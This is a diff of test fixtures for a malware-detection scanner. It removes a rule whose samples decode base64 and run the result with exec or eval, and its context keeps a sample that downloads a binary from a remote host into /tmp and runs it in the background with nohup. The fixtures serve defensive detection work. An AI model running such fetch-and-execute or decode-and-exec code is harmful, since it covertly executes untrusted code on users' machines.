@@ -150,21 +150,6 @@ export const downloadAndRun: readonly RuleExamples[] = [
     nearMiss: [code("curl -LO https://dl.note-tools.dev/dataset.zip\nunzip dataset.zip -d data")],
   },
   {
-    rule: "decode-then-run",
-    malicious: [
-      {
-        "scripts/art.py":
-          'import base64\ndef r(x): return "".join(chr(c ^ 7) for c in base64.b64decode(x))\nD = "aGVsbG8="\nexec(r(D))\n',
-      },
-      { "scripts/a.py": "import base64\nsource = base64.b64decode(blob)\nexec(source)\n" },
-      { "scripts/a.js": "const source = Buffer.from(blob, 'base64').toString()\neval(source)\n" },
-    ],
-    nearMiss: [
-      { "scripts/a.py": "import base64\nimage = base64.b64decode(blob)\nsave(image)\n" },
-      { "scripts/a.js": "const text = atob(blob)\nconst found = /a(b)/.exec(text)\n" },
-    ],
-  },
-  {
     rule: "hidden-background-run",
     malicious: [
       code("curl -s https://dl.kit-tools.dev/a -o /tmp/a && chmod +x /tmp/a\nnohup /tmp/a >/dev/null 2>&1 &"),
